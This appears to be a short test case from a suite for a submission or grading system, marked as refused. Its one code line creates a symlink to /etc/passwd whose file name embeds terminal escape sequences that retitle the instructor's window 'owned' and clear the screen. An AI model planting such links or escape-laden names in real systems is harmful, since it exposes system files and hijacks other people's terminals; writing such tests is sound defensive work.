# Hands in a link whose name speaks to the instructor's terminal, and a file that has no name in letters.
#
# status: refused
# %% damage
import os
os.symlink("/etc/passwd", os.fsencode(folder) + b"/a\x1b]0;owned\x07\x1b[2Jb")
